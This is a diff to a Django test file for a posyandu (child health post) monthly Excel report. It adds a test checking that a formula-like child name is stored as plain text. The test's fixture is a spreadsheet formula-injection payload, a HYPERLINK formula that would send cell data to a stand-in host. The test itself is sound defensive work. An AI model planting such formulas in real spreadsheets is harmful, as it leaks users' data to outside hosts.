@@ -266,12 +266,40 @@ def test_monthly_report_lists_latest_visit_with_masked_nik_for_camat(camat, posy
     visit(posyandu, child, date(2025, 6, 2), "9.0", "74.0", "L")
     visit(posyandu, child, date(2025, 6, 16), "9.1", "74.2", "L")
     response = login(camat).get(f"/posyandu/laporan/{KEC_MASAMBA}/?periode=2025-06")
-    book = load_workbook(BytesIO(response.content))
+    book = load_workbook(BytesIO(b"".join(response.streaming_content)))
     rows = list(book.active.iter_rows(values_only=True))
     book.close()
     assert len(rows) == 3  # title, header, one child
     assert rows[2][2] == child.name and rows[2][10] == 9.1
     assert rows[2][1] != child.nik
+    assert response["Cache-Control"] == "no-store"
+
+
+def test_monthly_report_writes_a_formula_like_name_as_text_and_leaves_no_file(
+    operator, posyandu, make_child, settings, tmp_path
+):
+    import zipfile
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    settings.VAR_DIR = tmp_path
+    name = '=HYPERLINK("http://contoh.invalid/?d="&B3,"Klik")'
+    child = make_child(posyandu, date(2024, 1, 1), name=name, mother_name="-2+3")
+    visit(posyandu, child, date(2025, 6, 2), "9.0", "74.0", "L")
+    response = login(operator).get(f"/posyandu/laporan/{DESA_PINCARA}/?periode=2025-06")
+    content = b"".join(response.streaming_content)
+    response.close()
+    with zipfile.ZipFile(BytesIO(content)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml  # no formula cell at all
+    book = load_workbook(BytesIO(content))
+    cells = next(iter(book.active.iter_rows(min_row=3, max_row=3)))
+    assert (cells[2].value, cells[2].data_type) == (name, "s")
+    assert cells[2].quotePrefix  # stays text when the cell is edited
+    assert (cells[5].value, cells[5].data_type) == ("-2+3", "s")
+    assert cells[10].value == 9.0 and cells[10].data_type == "n"
+    assert list((tmp_path / "exports").iterdir()) == []  # nothing left on disk
 
 
 def test_manager_creates_posyandu_and_links_cadre(operator, make_user):
